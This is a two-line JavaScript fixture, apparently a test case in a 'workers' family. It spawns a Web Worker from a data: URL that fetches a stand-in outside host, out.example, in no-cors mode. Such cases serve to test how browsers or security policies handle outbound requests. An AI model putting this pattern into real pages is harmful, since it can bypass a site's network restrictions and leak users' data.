/* {"family": "workers"} */
new Worker(`data:text/javascript,fetch('https://out.example/data', { mode: 'no-cors' })`);
